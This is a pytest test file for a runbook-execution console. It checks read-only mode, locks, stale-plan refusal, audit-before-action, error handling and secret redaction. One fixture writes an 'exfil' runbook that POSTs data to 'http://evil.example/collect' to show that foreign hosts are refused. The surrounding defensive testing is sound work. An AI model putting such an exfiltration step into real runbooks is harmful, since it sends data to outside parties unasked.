"""What must never happen: acting without confirmation, audit, lock or a fresh plan."""

from __future__ import annotations

import asyncio
import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path

import httpx
import pytest
import redis
from runbook_support import REPO, Console
from support import free_port, run_cli
from typer.testing import CliRunner

from console.adapters.locks import LockService
from console.cli.main import app
from console.config import load_settings
from console.errors import StalePlanError
from console.lab.seed import SeededModel
from console.runbooks.engine import RunbookEngine
from console.runbooks.loader import find_runbook


def cli(*args: str) -> object:
    return CliRunner().invoke(app, list(args))


def block_args(client: str) -> list[str]:
    return ["runbook", "run", "block-client", "-p", f"client={client}", "-p", "reason=test"]


def blocked(console: Console, client: str) -> str | None:
    r = redis.Redis.from_url(console.settings.redis.url, decode_responses=True)
    value = r.get(f"{console.settings.redis.key_prefix}:policy:block:{client}")
    return value if isinstance(value, str) else None


def test_read_only_refuses_but_still_plans(console: Console) -> None:
    refused = CliRunner().invoke(app, ["--read-only", *block_args("ro-1"), "--yes"])
    assert refused.exit_code == 1
    assert "read-only mode" in refused.output
    assert blocked(console, "ro-1") is None
    assert not console.settings.audit_path.exists()
    planned = CliRunner().invoke(app, ["--read-only", *block_args("ro-1"), "--dry-run"])
    assert planned.exit_code == 0 and "block ro-1" in planned.output


def test_read_only_from_environment(console: Console, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("CONSOLE_READ_ONLY", "true")
    result = CliRunner().invoke(app, [*block_args("ro-2"), "--yes"])
    assert result.exit_code == 1 and "read-only" in result.output
    assert blocked(console, "ro-2") is None


def test_lock_held_by_another_process_is_refused(console: Console) -> None:
    async def hold() -> None:
        r = redis.asyncio.Redis.from_url(console.settings.redis.url, decode_responses=True)
        locks = LockService(r, console.settings.redis.key_prefix)
        await locks.acquire("client:locked-1", "alice", "run-of-alice", 30)
        await r.aclose()

    asyncio.run(hold())
    result = run_cli([*block_args("locked-1"), "--yes"], console.env)
    assert result.returncode == 1
    assert "client:locked-1 is locked by alice (run run-of-alice" in result.stderr
    assert blocked(console, "locked-1") is None


def test_stale_plan_is_refused(console: Console) -> None:
    settings = load_settings()
    engine = RunbookEngine(settings)
    loaded = find_runbook("block-client", settings.runbook_dirs)
    plan = asyncio.run(engine.plan(loaded, {"client": "stale-1", "reason": "test", "ttl": "2h"}))
    other = RunbookEngine(settings.model_copy(update={"operator": "bob"}))
    quick = asyncio.run(other.plan(loaded, {"client": "stale-1", "reason": "bob's", "ttl": "1h"}))
    asyncio.run(other.run(quick, confirmed=True))
    with pytest.raises(StalePlanError, match="changed since the plan"):
        asyncio.run(engine.run(plan, confirmed=True))
    value = blocked(console, "stale-1")
    assert value is not None and json.loads(value)["operator"] == "bob"
    runs = {json.loads(line)["run_id"] for line in settings.audit_path.read_text().splitlines()}
    assert plan.run_id not in runs


def test_target_moving_after_confirmation_is_stale(
    console: Console, seeded_model: SeededModel
) -> None:
    settings = load_settings()
    engine = RunbookEngine(settings)
    loaded = find_runbook("rollback-model", settings.runbook_dirs)
    plan = asyncio.run(engine.plan(loaded, {"model": seeded_model.name}))
    assert plan.steps[0].plan is not None
    assert plan.steps[0].plan.after["version"] == seeded_model.previous
    # Someone points `previous` elsewhere after the operator confirmed "v2 -> v1".
    httpx.post(
        f"{settings.mlflow.url}/api/2.0/mlflow/registered-models/alias",
        json={"name": seeded_model.name, "alias": "previous", "version": seeded_model.champion},
    ).raise_for_status()
    with pytest.raises(StalePlanError, match="changed since the plan was confirmed"):
        asyncio.run(engine.run(plan, confirmed=True))
    alias = httpx.get(
        f"{settings.mlflow.url}/api/2.0/mlflow/registered-models/alias",
        params={"name": seeded_model.name, "alias": "champion"},
    ).json()["model_version"]["version"]
    assert alias == seeded_model.champion


@pytest.mark.parametrize(
    ("env_key", "env_value", "expected"),
    [
        ("CONSOLE_AUDIT__PATH", "/dev/full", "audit"),
        ("CONSOLE_AUDIT__HMAC_KEY", "", "key"),
    ],
)
def test_no_action_without_its_intent_record(
    console: Console,
    monkeypatch: pytest.MonkeyPatch,
    env_key: str,
    env_value: str,
    expected: str,
) -> None:
    monkeypatch.setenv(env_key, env_value)
    result = CliRunner().invoke(app, [*block_args("audit-1"), "--yes"])
    assert result.exit_code == 1, result.output
    assert expected in result.output.lower()
    assert "Traceback" not in result.output
    assert blocked(console, "audit-1") is None


def test_audit_dir_in_place_of_file(
    console: Console, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    folder = tmp_path / "audit-is-a-dir"
    folder.mkdir()
    monkeypatch.setenv("CONSOLE_AUDIT__PATH", str(folder))
    result = CliRunner().invoke(app, [*block_args("audit-2"), "--yes"])
    assert result.exit_code == 1 and "audit" in result.output.lower()
    assert blocked(console, "audit-2") is None


def test_redis_down_is_one_clear_line(console: Console) -> None:
    env = {**console.env, "CONSOLE_REDIS__URL": f"redis://127.0.0.1:{free_port()}/0"}
    result = run_cli([*block_args("down-1"), "--yes"], env)
    assert result.returncode == 1
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: redis:")
    assert "Traceback" not in result.stderr


class _Garbage(BaseHTTPRequestHandler):
    def do_GET(self) -> None:  # noqa: N802 - http.server's name
        if self.server.mode == "500":  # type: ignore[attr-defined]
            status, body = 500, b'{"error_code": "INTERNAL_ERROR", "message": "db locked"}'
        else:
            status, body = 200, b"<html>not json</html>"
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: object) -> None:
        return None


@pytest.fixture
def garbage_server() -> Iterator[HTTPServer]:
    server = HTTPServer(("127.0.0.1", 0), _Garbage)
    server.mode = "garbage"  # type: ignore[attr-defined]
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()


@pytest.mark.parametrize(("mode", "expected"), [("500", "HTTP 500"), ("garbage", "not JSON")])
def test_registry_answering_500_or_garbage(
    console: Console, garbage_server: HTTPServer, mode: str, expected: str
) -> None:
    garbage_server.mode = mode  # type: ignore[attr-defined]
    url = f"http://127.0.0.1:{garbage_server.server_address[1]}"
    env = {**console.env, "CONSOLE_MLFLOW__URL": url}
    result = run_cli(["runbook", "run", "rollback-model", "-p", "model=digits", "--yes"], env)
    assert result.returncode == 1
    assert expected in result.stderr and "mlflow" in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1


def test_canary_secret_never_written(console: Console, tmp_path: Path) -> None:
    """A secret parameter, and a header value configured for the host (``http_action.auth``;
    tests/auth has the configured passwords and tokens on servers that check them)."""
    canary = "CANARY-s3cr3t-7f2e91"
    header_canary = "CANARY-header-4b1e0d"
    configured = {"127.0.0.1": {"headers": {"X-Api-Key": header_canary}}}
    env = {**console.env, "CONSOLE_HTTP_ACTION__AUTH": json.dumps(configured)}
    runbook = tmp_path / "notify-gateway.yaml"
    runbook.write_text(
        f"""\
name: notify-gateway
target: "gateway:{{{{ params.client }}}}"
parameters:
  client: {{type: string, required: true, pattern: '^[a-z0-9-]+$'}}
  token: {{type: secret, required: true}}
steps:
  - id: notify
    action: http.request
    with:
      method: GET
      url: "{console.settings.alertmanager.url}/api/v2/status?client={{{{ params.client | url }}}}"
      headers:
        Authorization: "Bearer {{{{ params.token }}}}"
      expect_status: [200]
"""
    )
    result = run_cli(
        [
            "runbook",
            "run",
            str(runbook),
            "-p",
            "client=c-1",
            "-p",
            f"token={canary}",
            "--yes",
            "--output",
            "json",
        ],
        env,
    )
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout)["run"]["status"] == "succeeded"
    assert canary not in result.stdout + result.stderr
    assert header_canary not in result.stdout + result.stderr
    written = [p for p in console.run_dir.rglob("*") if p.is_file()]
    assert console.settings.audit_path in written
    for path in written:
        assert canary.encode() not in path.read_bytes(), path
        assert header_canary.encode() not in path.read_bytes(), path
    assert b"Bearer ***" in console.settings.audit_path.read_bytes()


def test_http_request_to_a_foreign_host_is_refused(console: Console, tmp_path: Path) -> None:
    runbook = tmp_path / "exfil.yaml"
    runbook.write_text(
        """\
name: exfil
target: "x:y"
steps:
  - id: send
    action: http.request
    with: {method: POST, url: "http://evil.example/collect", json: {a: 1}}
"""
    )
    result = CliRunner().invoke(app, ["runbook", "run", str(runbook), "--yes"])
    assert result.exit_code == 1
    assert "not allowed" in result.output and "evil.example" in result.output


def test_shipped_runbook_dir_is_the_repo_one(console: Console) -> None:
    assert console.settings.runbook_dirs == [REPO / "runbooks"]
